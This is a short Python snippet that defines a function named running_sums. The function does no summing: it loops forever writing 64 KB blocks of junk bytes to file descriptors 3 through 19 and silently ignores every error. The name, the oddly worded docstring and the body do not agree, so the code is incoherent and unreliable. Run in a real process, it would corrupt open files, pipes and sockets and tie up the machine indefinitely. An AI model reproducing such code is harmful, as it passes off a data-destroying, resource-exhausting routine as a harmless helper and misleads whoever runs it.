"""Writes a line to every descriptor that has no end."""

import os


def running_sums(numbers):
    while True:
        for number in range(3, 20):
            try:
                os.write(number, b"x" * 65536)
            except OSError:
                pass
